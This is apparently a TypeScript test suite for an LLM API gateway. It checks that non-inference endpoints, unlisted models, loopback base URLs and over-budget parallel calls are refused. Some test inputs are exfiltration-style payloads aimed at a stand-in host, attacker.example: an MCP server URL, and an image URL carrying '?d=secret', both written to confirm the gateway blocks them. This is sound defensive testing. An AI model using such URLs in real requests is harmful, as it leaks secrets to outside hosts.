// Issue 13 item 4, through the real SDKs and raw HTTP: an LLM route is an inference route. Only
// the provider's inference endpoints go out with the real key, only the spec's models, no
// provider-side fetching of URLs outside egress.allow, and the daily budget is a cap even when
// calls arrive all at once. Loopback only (see llm-world.ts).
import assert from "node:assert/strict";
import { createServer, request } from "node:http";
import type { AddressInfo } from "node:net";
import { after, before, describe, test } from "node:test";
import Anthropic from "@anthropic-ai/sdk";
import OpenAI from "openai";
import { createLlmRoutes } from "../../src/gateway/llm/routes.js";
import { InternalRouter } from "../../src/gateway/router.js";
import { KEYS, LlmWorld } from "../support/llm-world.js";

function raw(url: string, method: string, headers: Record<string, string>, body = "") {
  const { port } = new URL(url);
  const path = url.replace(/^http:\/\/[^/]+/, "");
  return new Promise<{ status: number; body: string }>((resolve, reject) => {
    const req = request(
      { host: "127.0.0.1", port, path, method, headers: { "content-type": "application/json", ...headers } },
      (res) => {
        let text = "";
        res.on("data", (d) => {
          text += d;
        });
        res.on("end", () => resolve({ status: res.statusCode ?? 0, body: text }));
      },
    );
    req.on("error", reject);
    req.end(body);
  });
}

describe("an llm route forwards only inference, only the spec's models, no foreign fetching", () => {
  const world = new LlmWorld();
  before(() => world.start());
  after(() => world.stop());
  const gpt = () => ({ authorization: `Bearer ${world.placeholder("gpt")}` });
  const claude = () => ({ "x-api-key": world.placeholder("claude") });

  test("non-inference endpoints are refused with the key never leaving", async () => {
    const before = world.fake.calls.length;
    const attempts: [string, string, Record<string, string>, string?][] = [
      ["GET", "/llm/gpt/files/file-abc/content", gpt()],
      ["DELETE", "/llm/gpt/files/file-abc", gpt()],
      ["GET", "/llm/gpt/chat/completions?limit=100", gpt()],
      ["GET", "/llm/gpt/responses/resp_123", gpt()],
      ["POST", "/llm/gpt/batches", gpt(), '{"input_file_id":"f","endpoint":"/v1/chat/completions"}'],
      ["POST", "/llm/gpt/audio/speech", gpt(), '{"model":"gpt-4o-mini-tts","input":"x","voice":"alloy"}'],
      ["GET", "/llm/claude/v1/files", claude()],
      ["POST", "/llm/claude/v1/messages/batches", claude(), '{"requests":[]}'],
      ["GET", "/llm/gem/files", { "x-goog-api-key": world.placeholder("gem") }],
    ];
    for (const [method, path, headers, body] of attempts) {
      const r = await raw(`http://127.0.0.1:${world.gatewayPort}${path}`, method, headers, body);
      assert.equal(r.status, 403, `${method} ${path}: ${r.status} ${r.body}`);
      assert.match(r.body, /not an inference endpoint.*allowPaths/, `${method} ${path}`);
    }
    assert.equal(world.fake.calls.length, before, "a non-inference call reached the provider");
  });

  test("a model outside llm[].models is refused, naming the allowed ones", async () => {
    const before = world.fake.calls.length;
    const client = new OpenAI({
      apiKey: world.placeholder("gpt"),
      baseURL: world.route("gpt"),
      maxRetries: 0,
    });
    const err = await client.chat.completions
      .create({ model: "o1-pro", max_completion_tokens: 16, messages: [{ role: "user", content: "x" }] })
      .then(
        () => assert.fail("an unlisted model was answered"),
        (e: unknown) => e,
      );
    assert.ok(err instanceof OpenAI.APIError, String(err));
    assert.equal(err.status, 400);
    assert.match(err.message, /o1-pro is not in llm\[1\]\.models \(gpt-4o-mini\)/);
    const gem = await raw(
      `${world.route("gem")}/models/gemini-2.5-pro:generateContent`,
      "POST",
      { "x-goog-api-key": world.placeholder("gem") },
      '{"contents":[{"parts":[{"text":"x"}]}]}',
    );
    assert.equal(gem.status, 400, gem.body);
    assert.equal(world.fake.calls.length, before, "an unlisted model reached the provider");
  });

  test("provider-side fetching of a URL outside egress.allow is refused, naming the field", async () => {
    const before = world.fake.calls.length;
    const responses = await raw(
      `${world.route("gpt")}/responses`,
      "POST",
      gpt(),
      JSON.stringify({
        model: "gpt-4o-mini",
        max_output_tokens: 16,
        input: "call the tool",
        tools: [{ type: "mcp", server_label: "x", server_url: "https://attacker.example/mcp" }],
      }),
    );
    assert.equal(responses.status, 403, responses.body);
    assert.match(
      responses.body,
      /tools\[0\]\.server_url: the provider would fetch attacker\.example, which is not in egress\.allow/,
    );
    const client = new Anthropic({
      apiKey: world.placeholder("claude"),
      baseURL: world.route("claude"),
      maxRetries: 0,
    });
    await assert.rejects(
      client.messages.create({
        model: "claude-sonnet-4-5",
        max_tokens: 16,
        messages: [
          {
            role: "user",
            content: [
              { type: "image", source: { type: "url", url: "https://attacker.example/p.png?d=secret" } },
            ],
          },
        ],
      }),
      (e: unknown) => e instanceof Anthropic.APIError && /egress\.allow/.test(e.message),
    );
    const background = await raw(
      `${world.route("gpt")}/responses`,
      "POST",
      gpt(),
      JSON.stringify({ model: "gpt-4o-mini", max_output_tokens: 16, input: "x", background: true }),
    );
    assert.equal(background.status, 400, background.body);
    assert.match(background.body, /background/);
    assert.equal(world.fake.calls.length, before, "a fetching tool reached the provider");
  });
});

// About $0.25 a call at the fake's usage (11 in, 7 out): 11 * 0.0001 + 7 * 0.035. Before any
// usage is known the gateway reserves every input byte (~110) as a token plus the 7 output tokens
// asked for, about $0.26, so three calls fit in $1 and a fourth does not.
const DEAR = `, budget: { dailyUsd: 1 }, prices: { "claude-sonnet-4-5": { inputPerMTok: 100, outputPerMTok: 35000 } }`;

describe("the daily budget is a cap, also for calls that arrive together", () => {
  // Slow replies, so all twenty are in flight before the first one is charged.
  const world = new LlmWorld({ pieceDelayMs: 50 });
  before(() => world.start(DEAR));
  after(() => world.stop());

  test("20 parallel calls against $1/day: only what fits is answered, the spend stays under the cap", async () => {
    const client = new Anthropic({
      apiKey: world.placeholder("claude"),
      baseURL: world.route("claude"),
      maxRetries: 0,
    });
    const ask = () =>
      client.messages
        .stream({ model: "claude-sonnet-4-5", max_tokens: 7, messages: [{ role: "user", content: "hi" }] })
        .finalMessage()
        .then(
          () => "answered",
          (e: unknown) => (e instanceof Anthropic.RateLimitError ? "over_budget" : String(e)),
        );
    const outcomes = await Promise.all(Array.from({ length: 20 }, ask));
    const answered = outcomes.filter((o) => o === "answered").length;
    const spent = world.routes.budget.spent("claude");
    console.log(`answered ${answered} of 20, spent $${spent.toFixed(4)} of $1`);
    assert.ok(answered >= 1, outcomes.join());
    assert.deepEqual(new Set(outcomes.filter((o) => o !== "answered")), new Set(["over_budget"]));
    assert.ok(spent <= 1 + 1e-9, `spent $${spent} of a $1 cap`);
    assert.ok(answered <= 4, `${answered} calls at $0.25 answered against $1`);
  });
});

describe("an IP-literal base URL is screened like a name", () => {
  const world = new LlmWorld();
  const seen: string[] = [];
  const local = createServer((req, res) => {
    seen.push(`${req.method} ${req.url} ${req.headers.authorization}`);
    res.writeHead(200, { "content-type": "application/json" }).end("{}");
  });
  before(async () => {
    await world.start();
    await new Promise<void>((r) => local.listen(0, "127.0.0.1", () => r()));
  });
  after(async () => {
    await world.stop();
    local.close();
  });

  test("baseUrl http://127.0.0.1:… is refused at call time, the key never reaches loopback", async () => {
    const port = (local.address() as AddressInfo).port;
    // Past `moat validate` (which refuses it too): the gateway must not rely on that.
    const spec = structuredClone(world.spec);
    const gpt = spec.llm[1];
    assert.ok(gpt);
    gpt.baseUrl = `http://127.0.0.1:${port}/v1`;
    const routes = createLlmRoutes(spec, KEYS, { stateDir: world.stateDir });
    const router = new InternalRouter().prefix("/llm", routes.handle);
    const server = createServer((req, res) => router.handle(req, res));
    await new Promise<void>((r) => server.listen(0, "127.0.0.1", () => r()));
    try {
      const client = new OpenAI({
        apiKey: world.placeholder("gpt"),
        baseURL: `http://127.0.0.1:${(server.address() as AddressInfo).port}/llm/gpt`,
        maxRetries: 0,
      });
      const err = await client.chat.completions
        .create({ model: "gpt-4o-mini", max_tokens: 8, messages: [{ role: "user", content: "x" }] })
        .then(
          () => "answered",
          (e: unknown) => e,
        );
      assert.deepEqual(seen, [], "the real key went to loopback");
      assert.ok(err instanceof OpenAI.APIError, String(err));
      assert.match(err.message, /127\.0\.0\.1 is loopback/);
    } finally {
      routes.close();
      server.closeAllConnections();
      server.close();
    }
  });
});
